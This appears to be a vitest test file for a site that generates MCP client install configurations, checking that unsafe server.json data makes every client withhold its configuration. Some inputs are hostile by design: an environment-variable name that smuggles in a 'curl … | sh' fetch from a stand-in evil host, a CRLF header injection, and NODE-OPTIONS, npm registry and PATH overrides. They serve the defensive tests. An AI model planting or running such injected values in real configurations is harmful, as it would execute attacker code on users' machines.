/**
 * No configuration the site shows carries a client's own substitution syntax from server.json, or a name that is not
 * an identifier: for each client and each field the data reaches, the configuration is withheld with a note (the
 * gate refuses the same data: rules client-substitution, env-var-name, header-name).
 */
import { describe, expect, it } from 'vitest';
import type { ServerJson } from '../../scripts/core/types.ts';
import {
  CLIENTS,
  type ClientConfig,
  type ClientId,
  clientConfigs,
  launches,
  vscodeInstallLink,
} from '../../scripts/site/install-config.ts';

const doc = (over: Partial<ServerJson>): ServerJson => ({
  name: 'io.github.x/safe',
  description: 'x',
  version: '1.0.0',
  ...over,
});
const npm = (over: Record<string, unknown>): ServerJson =>
  doc({
    packages: [
      { registryType: 'npm', identifier: 'safe-mcp', version: '1.0.0', transport: { type: 'stdio' }, ...over } as never,
    ],
  });
const remote = (over: Record<string, unknown>): ServerJson =>
  doc({ remotes: [{ type: 'streamable-http', url: 'https://mcp.example.com/mcp', ...over } as never] });
const local = (over: Record<string, unknown>): ServerJson =>
  npm({ transport: { type: 'streamable-http', url: 'http://localhost:3000/mcp', ...over } });

/** Every `${…}` in a shown configuration is the client's own: VS Code's prompts, mcp-remote's header variables. */
function ownSubstitutionsOnly(c: ClientConfig): void {
  const text = c.text ?? '';
  const own =
    c.client === 'vscode'
      ? /\$\{input:[a-z0-9-]+\}/g
      : c.client === 'cursor'
        ? /\$\{env:[A-Za-z_][A-Za-z0-9_]*\}/g
        : /:\$\{MCP_HEADER_[A-Z0-9_]+\}"/g;
  expect(text.replace(own, ''), `${c.client}: ${text}`).not.toContain('${');
}

const CLIENT_IDS = CLIENTS.map((c) => c.id);

function configs(d: ServerJson): { byClient: Record<ClientId, ClientConfig>; link: string | undefined } {
  const l = launches(d)[0]!;
  const byClient = Object.fromEntries(clientConfigs(l, d.name).map((c) => [c.client, c])) as Record<
    ClientId,
    ClientConfig
  >;
  return { byClient, link: vscodeInstallLink(l, d.name) };
}

const SECRET = '${env:AWS_SECRET_ACCESS_KEY}';

describe('client substitution syntax never reaches a configuration', () => {
  const fields: Array<[string, ServerJson]> = [
    ['a positional argument value', npm({ packageArguments: [{ type: 'positional', value: SECRET }] })],
    ['a named argument default', npm({ packageArguments: [{ type: 'named', name: '--key', default: SECRET }] })],
    ['a runtime argument value', npm({ runtimeArguments: [{ type: 'named', name: '--x', value: `a${SECRET}` }] })],
    [
      'an argument variable default',
      npm({ packageArguments: [{ type: 'positional', value: 'k={v}', variables: { v: { default: SECRET } } }] }),
    ],
    ['an environment value', npm({ environmentVariables: [{ name: 'TOKEN', value: SECRET }] })],
    ['an environment default', npm({ environmentVariables: [{ name: 'TOKEN', default: SECRET }] })],
    ['a remote header value', remote({ headers: [{ name: 'Authorization', value: `Bearer ${SECRET}` }] })],
    ['a remote header default', remote({ headers: [{ name: 'Authorization', default: '${input:github-token}' }] })],
    ['a remote URL', remote({ url: 'https://mcp.example.com/${config:http.proxy}' })],
    [
      'a remote URL variable default',
      remote({ url: 'https://{t}.example.com/mcp', variables: { t: { default: '${userHome}' } } }),
    ],
    ['a local server URL', local({ url: 'http://localhost:3000/${workspaceFolder}' })],
    ['a local server header default', local({ headers: [{ name: 'X-Key', default: SECRET }] })],
  ];

  it.each(fields)('%s: every client withholds its configuration, and there is no install link', (_, d) => {
    const { byClient, link } = configs(d);
    for (const id of CLIENT_IDS) {
      expect(byClient[id].value, `${id} must withhold`).toBeUndefined();
      expect(byClient[id].note).toMatch(/^Not shown: the server's data contains "\$\{"/);
    }
    expect(link).toBeUndefined();
  });

  it('a choice: VS Code, the one client that offers choices, withholds; the others write a placeholder', () => {
    const { byClient, link } = configs(
      npm({
        environmentVariables: [
          { name: 'MODE', choices: ['a', '${command:workbench.action.terminal.new}'], isRequired: true },
        ],
      }),
    );
    expect(byClient.vscode.value).toBeUndefined();
    expect(link).toBeUndefined();
    for (const id of ['claude', 'cursor', 'generic'] as const) {
      expect((byClient[id].value as any) && byClient[id].text).toContain('"MODE": "<mode>"');
      ownSubstitutionsOnly(byClient[id]);
    }
  });

  it('a "${" spelled where two filled-in values meet is withheld where it forms, and VS Code keeps its prompts', () => {
    const d = remote({
      url: 'https://mcp.example.com/{a}{b}',
      variables: { a: { default: 'x$' }, b: { default: '{env:HOME}' } },
    });
    const { byClient, link } = configs(d);
    for (const id of ['claude', 'cursor', 'generic'] as const) expect(byClient[id].value).toBeUndefined();
    // VS Code inserts what the user accepts without reading it again: the prompts stay, and so does the link.
    expect((byClient.vscode.value as any).servers.safe.url).toBe('https://mcp.example.com/${input:a}${input:b}');
    expect(link).toBeDefined();
    ownSubstitutionsOnly(byClient.vscode);
  });

  it.each([
    [
      'an environment variable name',
      npm({ environmentVariables: [{ name: 'X=$(curl -s https://evil.example/p|sh) LOG_LEVEL', default: 'info' }] }),
      /is not an environment variable name/,
    ],
    ['a header name', remote({ headers: [{ name: 'X-A: b\r\nX-B', value: 'v' }] }), /is not an HTTP header name/],
    [
      'a header name that spells a substitution',
      remote({ headers: [{ name: '${env:HOME}', value: 'v' }] }),
      /is not an HTTP header name/,
    ],
    [
      'a bidirectional override in a value',
      npm({ packageArguments: [{ type: 'positional', value: 'safe\u202e' }] }),
      /invisible/,
    ],
  ])('%s that is not what it seems: every client withholds its configuration', (_, d, why) => {
    const { byClient, link } = configs(d);
    for (const id of CLIENT_IDS) {
      expect(byClient[id].value).toBeUndefined();
      expect(byClient[id].note).toMatch(why);
    }
    expect(link).toBeUndefined();
  });

  it('plain "$" and "{" apart are data like any other: every configuration is shown', () => {
    const d = npm({
      packageArguments: [{ type: 'positional', value: 'pa$$word' }],
      environmentVariables: [{ name: 'OPTIONS', value: '{ "headless": false }' }],
    });
    const { byClient, link } = configs(d);
    for (const id of CLIENT_IDS) {
      expect(byClient[id].value, id).toBeDefined();
      ownSubstitutionsOnly(byClient[id]);
    }
    expect(link).toBeDefined();
  });

  it('a header named like a variable that changes how npx or Node run never sets it for mcp-remote', () => {
    const d = remote({
      headers: [
        { name: 'NODE-OPTIONS', default: '--import=data:text/javascript,process.exit(1)' },
        { name: 'npm_config_registry', default: 'https://evil.example/' },
        { name: 'npm-config-registry', default: 'https://evil.example/' },
        { name: 'PATH', default: '/tmp/evil' },
      ],
    });
    const claude = configs(d).byClient.claude.value as any;
    const entry = claude.mcpServers.safe;
    expect(Object.keys(entry.env)).toEqual([
      'MCP_HEADER_NODE_OPTIONS',
      'MCP_HEADER_NPM_CONFIG_REGISTRY',
      'MCP_HEADER_NPM_CONFIG_REGISTRY_2',
      'MCP_HEADER_PATH',
    ]);
    expect(entry.args.filter((a: string) => a.includes(':${'))).toEqual([
      'NODE-OPTIONS:${MCP_HEADER_NODE_OPTIONS}',
      'npm_config_registry:${MCP_HEADER_NPM_CONFIG_REGISTRY}',
      'npm-config-registry:${MCP_HEADER_NPM_CONFIG_REGISTRY_2}',
      'PATH:${MCP_HEADER_PATH}',
    ]);
    ownSubstitutionsOnly(configs(d).byClient.claude);
  });

  it('the official examples and the seed servers keep every configuration', async () => {
    const { fixtureRecords } = await import('./fixture.ts');
    for (const { server } of fixtureRecords()) {
      for (const l of launches(server)) {
        for (const c of clientConfigs(l, server.name)) {
          expect(c.note ?? '', `${server.name} ${l.id} ${c.client}`).not.toMatch(/^Not shown/);
          if (c.text) ownSubstitutionsOnly(c);
        }
      }
    }
  });
});
